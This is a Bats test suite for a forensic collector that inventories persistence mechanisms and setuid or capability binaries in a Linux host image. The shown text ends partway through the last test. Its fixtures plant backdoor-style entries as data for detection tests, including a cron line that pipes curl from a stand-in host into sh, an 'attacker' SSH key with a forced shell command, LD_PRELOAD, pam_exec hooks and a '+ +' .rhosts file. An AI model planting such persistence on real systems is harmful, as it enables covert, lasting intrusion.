#!/usr/bin/env bats
# What starts by itself and what runs with more rights, in an image of a host; packages against dpkg's digests.

bats_require_minimum_version 1.5.0
load 30-collect
load 77-persistence

setup() {
    OUT=$BATS_TEST_TMPDIR/out ROOT=$BATS_TEST_TMPDIR/root SATO=/home/sato TANAKA=/home/tanaka
    mkdir "$OUT" "$ROOT"
    printf 'web01\n' | put /etc/hostname
    printf 'root:x:0:0:root:/root:/bin/bash\nsato:x:1000:1000::/home/sato:/bin/bash\nbroken:x\n' | put /etc/passwd
    mkdir -p "$ROOT/root" "$ROOT/home/sato" "$ROOT/usr/bin" "$ROOT/usr/lib"
    ln -s usr/bin "$ROOT/bin"
    ln -s usr/lib "$ROOT/lib"
    printf '#!/bin/sh\n' | put /usr/bin/tool 755
}

@test "persistence: cron in all places, with who, when and what" {
    printf 'SHELL=/bin/sh\n# m h dom\n*/5 * * * * root /opt/x/run --now\n@reboot sato /bin/tool\nnon\tsense\n' | put /etc/cron.d/backdoor
    printf '17 * * * * root /bin/tool --hourly\n' | put /etc/cron.d/owned
    printf '1 2 3 4 5 curl http://x.example | sh\n@daily "/tmp/.hid/den" -x >/dev/null\n' | put /var/spool/cron/crontabs/sato 600
    printf '#!/bin/sh\n' | put /etc/cron.daily/script 755
    printf '#!/bin/sh\n' | put /etc/cron.daily/README
    printf '1\t5\tcron.daily\trun-parts /etc/cron.daily\n@monthly 9 m /bin/tool\n' | put /etc/anacrontab
    printf '/var/www IN_MODIFY /bin/tool $@\n' | put /var/spool/incron/sato
    printf '#!/bin/sh\n# atrun uid=1000 gid=1000\numask 22\ncd /home/sato || {\n\t echo no >&2\n\t exit 1\n}\n/opt/late --job\n' |
        put /var/spool/cron/atjobs/a0000101c88c40 700
    package tool /usr/bin/tool /etc/cron.d/owned
    take persistence
    rows autostart 'select(.kind == "cron" and .command) | [.origin, .line, .user, .when, .command, .program, .program_missing]' >"$BATS_TEST_TMPDIR/cron"
    diff - "$BATS_TEST_TMPDIR/cron" <<'TEXT'
["/etc/cron.d/backdoor",3,"root","*/5 * * * *","/opt/x/run --now","/opt/x/run",true]
["/etc/cron.d/backdoor",4,"sato","@reboot","/bin/tool","/usr/bin/tool",null]
["/etc/cron.d/owned",1,"root","17 * * * *","/bin/tool --hourly","/usr/bin/tool",null]
["/etc/cron.daily/script",null,"root","daily","/etc/cron.daily/script","/etc/cron.daily/script",null]
["/var/spool/cron/crontabs/sato",1,"sato","1 2 3 4 5","curl http://x.example | sh",null,null]
["/var/spool/cron/crontabs/sato",2,"sato","@daily","\"/tmp/.hid/den\" -x >/dev/null","/tmp/.hid/den",true]
TEXT
    [ "$(rows autostart 'select(.origin == "/etc/cron.d/backdoor" and .text) | .text')" = $'"SHELL=/bin/sh"\n"non\\tsense"' ]
    [ "$(rows autostart 'select(.kind == "anacron") | [.name, .when, .command]')" = $'["cron.daily","every 1 days","run-parts /etc/cron.daily"]\n["m","@monthly","/bin/tool"]' ]
    [ "$(rows autostart 'select(.kind == "incron") | [.user, .when, .command]')" = '["sato","/var/www IN_MODIFY","/bin/tool $@"]' ]
    rows autostart 'select(.kind == "at")' | jq -e '.user == "1000" and .command == "/opt/late --job" and .when == "2026-11-21T00:00:00.000000000Z"'
    [ "$(observed cron-job | sort | uniq -c | tr -s ' ' | tr '\n' ';')" = " 2 /etc/anacrontab; 2 /etc/cron.d/backdoor; 1 /etc/cron.daily/script; 2 /var/spool/cron/crontabs/sato; 1 /var/spool/incron/sato;" ]
    [ "$(observed at-job)" = /var/spool/cron/atjobs/a0000101c88c40 ]
    [ "$(observed start-from-volatile-place)" = /var/spool/cron/crontabs/sato ]
    rows autostart 'select(.origin == "/etc/cron.d/owned")' | jq -e '.package == "tool" and (has("altered") | not) and (has("unowned") | not)'
    cmp "$LISTS/etc/cron.d/backdoor" "$ROOT/etc/cron.d/backdoor"
    cmp "$LISTS/var/spool/cron/crontabs/sato" "$ROOT/var/spool/cron/crontabs/sato"
    grep -q 'root .*\*/5 \* \* \* \* .*/opt/x/run --now' "$LISTS/autostart.txt"
    grep -q ' non sense$' "$LISTS/autostart.txt" # a tab is a blank for people
    shaped autostart autostart-line
    sound "$OUT/taken.tar"
}

@test "persistence: a job in a file of a package that was altered is observed" {
    printf '17 * * * * root /bin/tool\n' | put /etc/cron.d/owned
    package tool /usr/bin/tool /etc/cron.d/owned
    printf '18 * * * * root /bin/tool\n' | put /etc/cron.d/owned
    printf '#!/bin/sh\nmore\n' | put /usr/bin/tool 755
    take persistence
    rows autostart 'select(.origin == "/etc/cron.d/owned")' | jq -e '.altered and .package == "tool" and .program_differs'
    [ "$(observed cron-job)" = /etc/cron.d/owned ]
    cmp "$LISTS/usr/bin/tool" "$ROOT/usr/bin/tool" # its bytes, as it is not what the package brought
}

@test "persistence: units of systemd, what enables them, what they stand before" {
    printf '[Service]\nExecStart=-/opt/evil \\\n  --flag\nExecStop=/bin/tool\nUser=sato\n[Install]\nWantedBy=multi-user.target\n' | put /etc/systemd/system/evil.service
    printf '[Service]\nExecStart=/usr/bin/tool\nExecStop=/usr/bin/tool\n' | put /usr/lib/systemd/system/vendor.service
    printf '[Service]\nExecStart=/usr/bin/tool -c\n[Install]\nAlias=x.service\n' | put /usr/lib/systemd/system/idle@.service
    printf '[Service]\nExecStart=/opt/other\n' | put /etc/systemd/system/vendor.service
    printf '[Timer]\nOnCalendar=daily\nPersistent=true\nUnit=evil.service\n' | put /usr/lib/systemd/system/evil.timer
    printf '[Service]\nEnvironment=LD_PRELOAD=/opt/l.so\nExecStartPre=/opt/pre\n' | put /etc/systemd/system/vendor.service.d/more.conf
    printf "[Service]\nExecStart=$SATO/bin/agent\n" | put $SATO/.config/systemd/user/agent.service
    printf '#!/bin/sh\n' | put /usr/lib/systemd/system-generators/gen 755
    mkdir -p "$ROOT/etc/systemd/system/multi-user.target.wants" "$ROOT/var/lib/systemd/linger"
    ln -s ../evil.service "$ROOT/etc/systemd/system/multi-user.target.wants/evil.service"
    ln -s /lib/systemd/system/idle@.service "$ROOT/etc/systemd/system/multi-user.target.wants/idle@one.service"
    ln -s /dev/null "$ROOT/etc/systemd/system/gone.service"
    touch "$ROOT/var/lib/systemd/linger/sato"
    package tool /usr/bin/tool /usr/lib/systemd/system/vendor.service /lib/systemd/system/idle@.service /usr/lib/systemd/system/evil.timer /usr/lib/systemd/system-generators/gen
    take persistence
    rows autostart 'select(.kind | startswith("systemd")) | [.origin, .directive, .program, .user, .enabled, .enabled_by, .overrides, .when]' >"$BATS_TEST_TMPDIR/units"
    diff - "$BATS_TEST_TMPDIR/units" <<TEXT
["/etc/systemd/system/evil.service","ExecStart","/opt/evil","sato","enabled",["/etc/systemd/system/multi-user.target.wants/evil.service"],null,null]
["/etc/systemd/system/evil.service","ExecStop","/usr/bin/tool","sato","enabled",["/etc/systemd/system/multi-user.target.wants/evil.service"],null,null]
["/etc/systemd/system/gone.service",null,null,null,"masked",null,null,null]
["/etc/systemd/system/vendor.service","ExecStart","/opt/other","root","static",null,"/usr/lib/systemd/system/vendor.service",null]
["/etc/systemd/system/vendor.service.d/more.conf","Environment",null,"root","static",null,null,null]
["/etc/systemd/system/vendor.service.d/more.conf","ExecStartPre","/opt/pre","root","static",null,null,null]
["$SATO/.config/systemd/user/agent.service","ExecStart","$SATO/bin/agent","sato","static",null,null,null]
["/usr/lib/systemd/system-generators/gen",null,"/usr/lib/systemd/system-generators/gen","root",null,null,null,"boot and daemon-reload"]
["/usr/lib/systemd/system/evil.timer","Unit",null,null,"static",null,null,"OnCalendar=daily; Persistent=true"]
["/usr/lib/systemd/system/idle@.service","ExecStart","/usr/bin/tool","root","enabled",["/etc/systemd/system/multi-user.target.wants/idle@one.service"],null,null]
["/usr/lib/systemd/system/vendor.service","ExecStart","/usr/bin/tool","root","overridden",null,null,null]
["/usr/lib/systemd/system/vendor.service","ExecStop","/usr/bin/tool","root","overridden",null,null,null]
["/var/lib/systemd/linger/sato",null,null,"sato",null,null,null,"units of this user run from boot on"]
TEXT
    [ "$(observed systemd-unit | tr '\n' ' ')" = "/etc/systemd/system/evil.service /etc/systemd/system/vendor.service /etc/systemd/system/vendor.service.d/more.conf $SATO/.config/systemd/user/agent.service " ]
    rows autostart 'select(.directive == "ExecStart" and .name == "evil.service") | .command' | grep -q 'flag'
    shaped autostart autostart-line
}

@test "persistence: keys that may log in, in the places that sshd_config names" {
    mkdir "$ROOT$SATO/.ssh"
    ssh-keygen -q -t ed25519 -N '' -C 'attacker@evil.example' -f "$BATS_TEST_TMPDIR/one"
    ssh-keygen -q -t ecdsa -N '' -C 'tanaka@lab.example' -f "$BATS_TEST_TMPDIR/two"
    {
        printf 'command="/opt/shell \\"x\\"",no-pty '
        cat "$BATS_TEST_TMPDIR/one.pub"
        printf '# none\nssh-rsa notakey\n'
    } | put $SATO/.ssh/authorized_keys
    put /etc/ssh/keys/root <"$BATS_TEST_TMPDIR/two.pub"
    printf 'Port 22\nauthorizedkeysfile=.ssh/authorized_keys /etc/ssh/keys/%%u %%k\n' | put /etc/ssh/sshd_config
    take persistence
    fingerprint() { ssh-keygen -lf "$1" | cut -d' ' -f2; }
    rows autostart 'select(.kind == "authorized-key") | [.origin, .user, .directive, .name, .fingerprint, .program]' >"$BATS_TEST_TMPDIR/keys"
    diff - "$BATS_TEST_TMPDIR/keys" <<TEXT
["/etc/ssh/keys/root","root","ecdsa-sha2-nistp256","tanaka@lab.example","$(fingerprint "$BATS_TEST_TMPDIR/two.pub")",null]
["$SATO/.ssh/authorized_keys","sato","ssh-ed25519","attacker@evil.example","$(fingerprint "$BATS_TEST_TMPDIR/one.pub")","/opt/shell"]
["$SATO/.ssh/authorized_keys","sato","ssh-rsa",null,null,null]
TEXT
    grep -qF 'options command="/opt/shell ' "$LISTS/autostart.txt"
    grep -qF "key $(fingerprint "$BATS_TEST_TMPDIR/one.pub") attacker@evil.example" "$LISTS/autostart.txt"
    [ "$(observed authorized-key | sort | tr '\n' ' ')" = "/etc/ssh/keys/root $SATO/.ssh/authorized_keys " ]
    cmp "$LISTS/etc/ssh/keys/root" "$BATS_TEST_TMPDIR/two.pub"
    shaped autostart autostart-line
}

@test "persistence: preload, PAM, NSS, udev, modprobe, hooks, start files of shells and sessions" {
    printf '/opt/lib/one.so:/opt/lib/two.so\n' | put /etc/ld.so.preload
    printf 'auth [success=1 default=ignore] pam_unix.so nullok\nauth optional pam_exec.so quiet /opt/pw\n@include common\n' | put /etc/pam.d/sshd
    printf 'x' | put /usr/lib/x86_64-linux-gnu/security/pam_unix.so
    printf 'x' | put /usr/lib/x86_64-linux-gnu/security/pam_evil.so
    printf 'x' | put /usr/lib/x86_64-linux-gnu/libnss_evil.so.2
    printf 'ACTION=="add", RUN+="/opt/plug %%k", PROGRAM="/bin/tool"\nGOTO="x"\n' | put /etc/udev/rules.d/99-x.rules
    printf 'install vfat /opt/load; /sbin/modprobe -i vfat\nblacklist y\n' | put /etc/modprobe.d/x.conf
    printf ':any:E::xx::/opt/interp:OC\n' | put /etc/binfmt.d/x.conf
    printf 'id:3:initdefault:\nx:2345:respawn:/opt/respawn\n' | put /etc/inittab
    printf 'DPkg::Post-Invoke {"/opt/apt";};\nAPT::Update::Post-Invoke-Success {\n  "/opt/block || true";\n};\nx "/opt/no";\n' | put /etc/apt/apt.conf.d/99x
    printf '/var/log/x {\n  postrotate\n    /opt/rotate\n  endscript\n}\n' | put /etc/logrotate.d/x
    printf 'kernel.core_pattern = |/opt/core %%p\n' | put /etc/sysctl.d/x.conf
    printf 'root: sato\nx: "|/opt/mail"\n' | put /etc/aliases
    printf '#!/bin/sh\n' | put /etc/rc.local 755
    printf '[Desktop Entry]\nName=X\nExec=/opt/desk --x\nHidden=TRUE\n' | put $SATO/.config/autostart/x.desktop
    printf '[D-BUS Service]\nName=org.x\nExec=/opt/bus\nUser=root\n' | put /usr/share/dbus-1/system-services/org.x.service
    printf 'service x\n{\n user = root\n server = /opt/inetd\n disable = yes\n}\n' | put /etc/xinetd.d/x
    printf '/opt/in.bashrc\n' | put $SATO/.bashrc
    printf '# nothing\n' | put $SATO/.profile
    printf 'iface x\n  up /opt/up\n' | put /etc/network/interfaces
    mkdir -p "$ROOT/etc/rc2.d" "$ROOT/etc/init.d"
    printf '#!/bin/sh\n' | put /etc/init.d/svc 755
    ln -s ../init.d/svc "$ROOT/etc/rc2.d/S01svc"
    package tool /usr/bin/tool /usr/lib/x86_64-linux-gnu/security/pam_unix.so
    take persistence
    rows autostart '[.kind, .program // .name // .text]' | sort >"$BATS_TEST_TMPDIR/kinds"
    sort >"$BATS_TEST_TMPDIR/wanted" <<'TEXT'
["autostart","/opt/desk"]
["binfmt","/opt/interp"]
["dbus","/opt/bus"]
["init","/etc/init.d/svc"]
["init-link","/etc/init.d/svc"]
["inittab","/opt/respawn"]
["inittab","id"]
["logrotate","/opt/rotate"]
["mail","/opt/mail"]
["modprobe","/opt/load"]
["network-hook","/opt/up"]
["nss-module","/usr/lib/x86_64-linux-gnu/libnss_evil.so.2"]
["package-hook","/opt/apt"]
["package-hook","/opt/block"]
["package-hook","APT::Update::Post-Invoke-Success {"]
["pam","/opt/pw"]
["pam","@include common"]
["pam","sshd"]
["pam-module","/usr/lib/x86_64-linux-gnu/security/pam_evil.so"]
["pam-module","/usr/lib/x86_64-linux-gnu/security/pam_unix.so"]
["preload","/opt/lib/one.so"]
["preload","/opt/lib/two.so"]
["rc","/etc/rc.local"]
["shell",".bashrc"]
["sysctl","/opt/core"]
["udev","/opt/plug"]
["udev","/usr/bin/tool"]
["xinetd","/opt/inetd"]
TEXT
    diff "$BATS_TEST_TMPDIR/wanted" "$BATS_TEST_TMPDIR/kinds"
    grep -qE ' auth: pam_exec\.so quiet /opt/pw$' "$LISTS/autostart.txt"
    grep -qE '/etc/pam\.d/sshd:2 .* options optional' "$LISTS/autostart.txt"
    grep -qF ' RUN: /opt/plug %k' "$LISTS/autostart.txt"
    [ "$(observed ld-so-preload | tr '\n' ' ')" = "/etc/ld.so.preload /etc/ld.so.preload " ]
    [ "$(observed pam-module)" = /usr/lib/x86_64-linux-gnu/security/pam_evil.so ]
    [ "$(observed nss-module)" = /usr/lib/x86_64-linux-gnu/libnss_evil.so.2 ]
    [ "$(observed pam-program)" = /etc/pam.d/sshd ]
    diff - <(observed start-file | sort) <<'TEXT'
/etc/aliases
/etc/apt/apt.conf.d/99x
/etc/binfmt.d/x.conf
/etc/init.d/svc
/etc/inittab
/etc/logrotate.d/x
/etc/modprobe.d/x.conf
/etc/network/interfaces
/etc/rc.local
/etc/rc2.d/S01svc
/etc/sysctl.d/x.conf
/etc/udev/rules.d/99-x.rules
/etc/xinetd.d/x
/usr/share/dbus-1/system-services/org.x.service
TEXT
    cmp "$LISTS/usr/lib/x86_64-linux-gnu/security/pam_evil.so" "$ROOT/usr/lib/x86_64-linux-gnu/security/pam_evil.so"
    [ ! -e "$LISTS/usr/lib/x86_64-linux-gnu/security/pam_unix.so" ] # a package has it, and it is as it was
    rows autostart 'select(.kind == "autostart")' | jq -e '.enabled == "hidden" and .user == "sato"'
    shaped autostart autostart-line
}

@test "persistence: links to folders that cron and systemd follow, files that other files name" {
    mkdir -p "$ROOT/var/spool/cron" "$ROOT/etc/systemd/system" "$ROOT/etc/ssh" "$ROOT/opt/wants"
    printf '@reboot /opt/tab\n' | put /var/lib/.tabs/sato
    ln -s /var/lib/.tabs "$ROOT/var/spool/cron/crontabs"
    printf '[Service]\nExecStart=/opt/main\nEnvironmentFile=-/opt/unit.env\n[Install]\nWantedBy=x\n' | put /etc/systemd/system/main.service
    printf 'A=b\nLD_PRELOAD=/opt/env.so\n' | put /opt/unit.env
    printf '[Service]\nExecStartPre=/opt/dropped\n' | put /opt/drop/x.conf
    printf 'not for systemd\n' | put /opt/drop/notes
    ln -s /opt/drop "$ROOT/etc/systemd/system/main.service.d"
    ln -s /etc/systemd/system/main.service "$ROOT/opt/wants/main.service"
    ln -s /opt/wants "$ROOT/etc/systemd/system/multi-user.target.wants"
    ln -s /etc/systemd/system "$ROOT/etc/systemd/system/loop.d"
    printf 'auth include /opt/pam\n@include /opt/nowhere\n' | put /etc/pam.d/login
    printf 'auth optional pam_exec.so /opt/pw\n' | put /opt/pam
    printf 'include /opt/*.conf\n' | put /etc/ld.so.conf
    printf '/opt/libs\n' | put /opt/libs.conf
    package tool /usr/bin/tool
    take persistence
    rows autostart '[.kind, .origin, .name // .text, .command, .user]' >"$BATS_TEST_TMPDIR/rows"
    diff - "$BATS_TEST_TMPDIR/rows" <<'TEXT'
["library-path","/etc/ld.so.conf","include /opt/*.conf",null,null]
["pam","/etc/pam.d/login","auth include /opt/pam",null,null]
["pam","/etc/pam.d/login","@include /opt/nowhere",null,null]
["systemd","/etc/systemd/system/main.service","main.service","/opt/main","root"]
["systemd-drop-in","/opt/drop/x.conf","main.service","/opt/dropped","root"]
["library-path","/opt/libs.conf","/opt/libs",null,null]
["pam","/opt/pam","pam","pam_exec.so /opt/pw",null]
["environment","/opt/unit.env","LD_PRELOAD=/opt/env.so",null,null]
["cron","/var/lib/.tabs/sato",null,"/opt/tab","sato"]
TEXT
    rows autostart 'select(.name == "main.service" and .kind == "systemd") | .enabled_by[0]' | grep -qx '"/opt/wants/main.service"'
    cmp "$LISTS/var/lib/.tabs/sato" "$ROOT/var/lib/.tabs/sato"
    cmp "$LISTS/opt/drop/x.conf" "$ROOT/opt/drop/x.conf"
    cmp "$LISTS/opt/unit.env" "$ROOT/opt/unit.env"
    [ ! -e "$LISTS/opt/drop/notes" ]
    [ "$(observed cron-job)" = /var/lib/.tabs/sato ]
    [ "$(observed systemd-unit | sort | tr '\n' ' ')" = "/etc/systemd/system/main.service /opt/drop/x.conf " ]
    [ "$(observed start-file)" = /opt/unit.env ]
    [ "$(observed pam-program)" = /opt/pam ]
    sound "$OUT/taken.tar"
}

@test "persistence: a folder that a file names is not taken with all below it" {
    printf '@daily root /opt/x\n' | put /srv/big/deep/file
    printf 'up /opt/up\n' | put /srv/big/up
    mkdir -p "$ROOT/etc/ssh" "$ROOT/etc/network"
    printf 'AuthorizedKeysFile / /srv/big %%h %%h/..\nInclude /srv /\nTrustedUserCAKeys /srv\n' | put /etc/ssh/sshd_config
    printf 'auth include /\nauth include /srv/big\n' | put /etc/pam.d/x
    printf 'include /srv/big\n' | put /etc/ld.so.conf
    printf 'include /srv/big\n' | put /etc/logrotate.conf
    printf 'source-directory /srv/big\nsource /srv\n' | put /etc/network/interfaces
    printf '[Service]\nExecStart=/opt/x\nEnvironmentFile=/srv/big\n' | put /etc/systemd/system/x.service
    take persistence
    [ "$(rows autostart 'select(.origin | startswith("/srv")) | [.kind, .origin]')" = '["network-hook","/srv/big/up"]' ]
    [ -e "$LISTS/srv/big/up" ]
    [ ! -e "$LISTS/srv/big/deep/file" ]
    [ ! -e "$LISTS/usr/bin/tool" ]
    [ ! -e "$LISTS/etc/hostname" ]
}

@test "persistence: keys and authorities where sshd_config and what it includes say so, for all who share a home" {
    printf 'toor:x:0:0::/root:/bin/sh\nsvc:x:9:9::/nonexistent:/bin/sh\n' >>"$ROOT/etc/passwd"
    ssh-keygen -q -t ed25519 -N '' -C x -f "$BATS_TEST_TMPDIR/one"
    local place
    for place in /etc/ssh/keys/toor /etc/ssh/keys/svc '/opt/a b/sato/keys' $SATO/.keys /opt/ca.pub; do
        put "$place" <"$BATS_TEST_TMPDIR/one.pub"
    done
    printf 'Include /opt/sshd.conf more/*.conf\n' | put /etc/ssh/sshd_config
    printf 'AuthorizedKeysFile "/etc/ssh/keys/%%u" "/opt/a b/%%u/keys"\nInclude /opt/sshd.conf\n' | put /opt/sshd.conf
    printf 'AuthorizedKeysFile "%%h/.keys"\nTrustedUserCAKeys /opt/ca.pub\nAuthorizedPrincipalsFile /opt/names/%%u\n' | put /etc/ssh/more/x.conf
    printf 'anybody\n' | put /opt/names/sato
    printf '+ +\n' | put $SATO/.rhosts
    take persistence
    rows autostart 'select(.kind == "authorized-key") | [.origin, .user, .when]' >"$BATS_TEST_TMPDIR/keys"
    diff - "$BATS_TEST_TMPDIR/keys" <<TEXT
["/etc/ssh/keys/svc","svc",null]
["/etc/ssh/keys/toor","toor",null]
["$SATO/.keys","sato",null]
["/opt/a b/sato/keys","sato",null]
["/opt/ca.pub",null,"certificates that it signed"]
TEXT
    [ "$(observed authorized-key | wc -l)" -eq 5 ]
    rows autostart 'select(.kind == "trusted-login") | .text' | grep -qx '"+ +"'
    cmp "$LISTS/opt/names/sato" "$ROOT/opt/names/sato"
    cmp "$LISTS/opt/sshd.conf" "$ROOT/opt/sshd.conf"
    shaped autostart autostart-line
}

@test "persistence: less usual places" {
    local n=0 place
    while read -r place; do
        n=$((n + 1))
        printf '#!/bin/sh\n/opt/run\n' | put "$place" 755
    done >"$BATS_TEST_TMPDIR/nothing" <<TEXT
/run/systemd/user-generators/x
/usr/local/lib/systemd/user-environment-generators/x
/etc/bash_completion.d/x
/etc/fish/functions/ls.fish
$SATO/.config/fish/functions/ls.fish
$SATO/.bash_completion
$SATO/.config/nvim/init.lua
/etc/gdm3/PostLogin/Default
/var/lib/cloud/scripts/per-boot/x
/etc/ppp/ipv6-up.d/x
/etc/ppp/ip-up.local
/etc/sv/x/run
/etc/security/namespace.init
/etc/needrestart/restart.d/x
/usr/local/lib/security/pam_x.so
/usr/local/lib/libnss_x.so.2
$SATO/.local/lib/python3.11/site-packages/x.pth
TEXT
    printf '[Manager]\nDefaultEnvironment=LD_PRELOAD=/opt/x.so\n' | put /run/systemd/system.conf.d/x.conf
    printf 'LD_PRELOAD=/opt/x.so\n' | put /usr/lib/environment.d/x.conf
    printf 'A=b\n' | put /etc/default/quiet
    printf 'LD_AUDIT=/opt/x.so\n' | put /etc/default/loud
    printf 'd /x\nw /etc/cron.d/x - - - - y\n' | put /usr/lib/tmpfiles.d/x.conf
    printf 'install x /opt/run\n' | put /usr/local/lib/modprobe.d/x.conf
    printf '[Service]\nExecStart=/opt/run\n' | put /run/systemd/transient/run-1.service
    printf 'start on startup\nscript\n  /opt/run\nend script\n' | put /etc/init/x.conf
    printf '[program:x]\ncommand=/opt/run\n' | put /etc/supervisor/conf.d/x.conf
    printf 'action(type="omprog" binary="/opt/run")\n*.* /var/log/x\n*.* ^/opt/run\n' | put /etc/rsyslog.d/x.conf
    printf 'active = yes\npath = /opt/run\n' | put /etc/audit/plugins.d/x.conf
    printf 'event=button/power\naction=/opt/run %%e\n' | put /etc/acpi/events/x
    printf 'ACTION=="add", ENV{SYSTEMD_WANTS}+="x.service"\n' | put /etc/udev/rules.d/x.rules
    package tool /usr/bin/tool
    take persistence
    [ "$(rows autostart '.origin' | sort -u | wc -l)" -eq $((n + 12)) ]
    [ "$(rows autostart 'select(.origin == "/etc/audit/plugins.d/x.conf") | [.when, .user, .program]')" = '["start of auditd","root","/opt/run"]' ]
    [ "$(rows autostart 'select(.origin == "/etc/acpi/events/x") | [.when, .user, .program]')" = '["event of ACPI","root","/opt/run"]' ]
    [ "$(rows autostart 'select(.origin == "/etc/rsyslog.d/x.conf") | .program' | tr '\n' ' ')" = '"/opt/run" "/opt/run" ' ]
    [ "$(rows autostart 'select(.kind == "tmpfiles") | .text')" = '"w /etc/cron.d/x - - - - y"' ]
    [ "$(rows autostart 'select(.kind == "upstart") | [.when, .program]')" = '["start on startup","/opt/run"]' ]
    [ "$(observed systemd-unit)" = /run/systemd/transient/run-1.service ]
    [ "$(observed pam-module)" = /usr/local/lib/security/pam_x.so ]
    [ "$(observed nss-module)" = /usr/local/lib/libnss_x.so.2 ]
    [ "$(observed start-file | sort -u | wc -l)" -eq $((n - 2 - 4 + 11)) ] # all but modules, a unit, and what is at home
    [ ! -e "$LISTS/etc/default/quiet" ]
    cmp "$LISTS/etc/default/loud" "$ROOT/etc/default/loud"
    shaped autostart autostart-line
}

@test "persistence: hostile names, contents, links and pipes; nothing outside the image is read" {
    printf 'secret-of-this-machine\n' >"$BATS_TEST_TMPDIR/outside"
    mkdir -p "$ROOT/etc/cron.d" "$ROOT/etc/profile.d" "$ROOT$SATO/.ssh"
    ln -s "$BATS_TEST_TMPDIR/outside" "$ROOT/etc/cron.d/absolute"
    ln -s ../../../../../../../../../../etc/passwd "$ROOT/etc/cron.d/up"
    ln -s loop "$ROOT/etc/cron.d/loop"
    ln -s /etc "$ROOT/etc/cron.d/folder"
    mkfifo "$ROOT/etc/profile.d/pipe.sh" "$ROOT$SATO/.ssh/authorized_keys"
    printf '* * * * * root /opt/\033[31mred\n' >"$ROOT/etc/cron.d/"$'esc\033[2J\nname'
    printf '* * * * * root \377\376/opt\n' >"$ROOT/etc/cron.d/bytes"
    head -c 300000 /dev/urandom | put /etc/cron.d/noise
    head -c 2000000 /dev/zero | put /etc/ld.so.preload
    printf '%0100000d' 1 | put /etc/pam.d/long
    mkdir -p "$ROOT/etc/systemd/system/a/b/c/d/e/f/g/h"
    package tool /usr/bin/tool
    take persistence
    run ! grep -rq secret-of-this-machine "$BUNDLE"
    [ "$(rows autostart 'select(.origin == "/etc/cron.d/bytes") | .command_b64')" = '"//4vb3B0"' ]
    run ! env LC_ALL=C grep -q $'\033' "$LISTS/autostart.txt" "$BUNDLE/data/closing/observations.txt"
    rows autostart 'select(.origin | startswith("/etc/cron.d/esc"))' | jq -e '.program == "/opt/\u001b[31mred"'
    [ "$(rows autostart 'select(.origin == "/etc/cron.d/folder")')" = "" ]
    rows autostart 'select(.kind == "pam") | .text | length' | grep -qx 16384
    shaped autostart autostart-line
    sound "$OUT/taken.tar"
}

@test "persistence: setuid, setgid and capability files, whose they are, and what is unusual" {
    need_root
    printf 'x' | put /usr/bin/suid 4755
    printf 'x' | put /usr/bin/guid 2755
    printf 'x' | put /usr/bin/ping 755
    printf 'x' | put /usr/bin/python 755
    printf 'x' | put /usr/bin/plain 755
    printf 'x' | put /tmp/sh 4755
    printf 'x' | put /usr/bin/own 6711
    setcap cap_net_raw+ep "$ROOT/usr/bin/ping"
    setcap cap_setuid+eip "$ROOT/usr/bin/python"
    mkdir "$ROOT/usr/bin/folder" && chmod 2755 "$ROOT/usr/bin/folder"
    package tool /usr/bin/tool /usr/bin/suid /bin/guid /usr/bin/ping /usr/bin/python
    printf 'y' >"$ROOT/usr/bin/guid" && chmod 2755 "$ROOT/usr/bin/guid"
    take persistence
    rows privileged '[.origin, .mode, .capabilities, .package, .unowned, .altered]' >"$BATS_TEST_TMPDIR/privileged"
    diff - "$BATS_TEST_TMPDIR/privileged" <<'TEXT'
["/tmp/sh","4755",null,null,true,null]
["/usr/bin/guid","2755",null,"tool",null,true]
["/usr/bin/own","6711",null,null,true,null]
["/usr/bin/ping","0755","cap_net_raw=ep","tool",null,null]
["/usr/bin/python","0755","cap_setuid=eip","tool",null,null]
["/usr/bin/suid","4755",null,"tool",null,null]
TEXT
    [ "$(observed setuid-unusual | tr '\n' ' ')" = "/tmp/sh /usr/bin/guid /usr/bin/own " ]
    [ "$(observed file-capability)" = /usr/bin/python ]
    [ "$(getcap "$ROOT/usr/bin/python" | sed 's/.* //')" = "$(rows privileged 'select(.capabilities == "cap_setuid=eip") | .capabilities' | jq -r .)" ]
    grep -q '^-rws--s--x .* /usr/bin/own  of no package$' "$LISTS/privileged.txt"
    shaped privileged privileged-line
}

@test "persistence: every file system of the running host is searched, others are named" {
    need_root
    mkdir "$BATS_TEST_TMPDIR/mnt"
    unshare --mount --pid --net --fork --mount-proc bash -c '
        set -e
        mount -t tmpfs -o size=1m sample "$1/mnt"
        printf x >"$1/mnt/suid" && chmod 4755 "$1/mnt/suid"
        "$HOZEN_BIN/hozen-collect" --case X --operator "Sato Hanako" --item live --out "$1/out" --compress none --source persistence || [ $? = 4 ] # what others leave on this machine may not be readable
        tar -xOf "$1/out/live.tar" live/data/persistence/privileged.jsonl >"$1/list"
        rm "$1/out/live.tar"' - "$BATS_TEST_TMPDIR" >"$BATS_TEST_TMPDIR/says"
    grep -F "$BATS_TEST_TMPDIR/mnt/suid" "$BATS_TEST_TMPDIR/list"
    head -1 "$BATS_TEST_TMPDIR/list" | jq -e --arg path "$BATS_TEST_TMPDIR/mnt" \
        '(.searched | any(.path == $path)) and (.not_searched | any(.path == "/proc"))'
    [ "$(tail -n +2 "$BATS_TEST_TMPDIR/list" | jq -r .origin | sort | uniq -d)" = "" ]
}

@test "persistence: a home on a file system that does not answer is left, and said" {
    need_root
    [ -c /dev/fuse ] || skip "needs /dev/fuse"
    printf "sato:x:1000:1000::$SATO/dir:/bin/sh\ntanaka:x:1001:1001::/home/tanaka:/bin/sh\n" | put /etc/passwd
    printf 'true\n' | put $TANAKA/.bashrc
    cat >"$BATS_TEST_TMPDIR/script" <<SCRIPT
mkfifo "$BATS_TEST_TMPDIR/hold"
"$TOOLS/silent_fs.py" "$ROOT/home/sato" look:dir <"$BATS_TEST_TMPDIR/hold" >"$BATS_TEST_TMPDIR/log" &
exec 9>"$BATS_TEST_TMPDIR/hold"
until grep -qs ready "$BATS_TEST_TMPDIR/log"; do kill -0 \$! || exit 90; sleep 0.05; done
(
    exec 9>&-
    ASAN_OPTIONS=detect_leaks=0 timeout -s KILL 200 "$HOZEN_BIN/hozen-collect" --case C --operator O --out "$OUT" --item taken \
        --compress none --command-timeout 1s --root "$ROOT" --source persistence
    echo \$? >"$BATS_TEST_TMPDIR/status"
) &
for n in \$(seq 1500); do [ ! -e "$OUT/taken.tar" ] || break; sleep 0.1; done
[ ! -e "$OUT/taken.tar" ] || touch "$BATS_TEST_TMPDIR/meanwhile"
exec 9>&-
wait
SCRIPT
    timeout -s KILL 300 unshare --mount bash "$BATS_TEST_TMPDIR/script"
    [ -e "$BATS_TEST_TMPDIR/meanwhile" ]
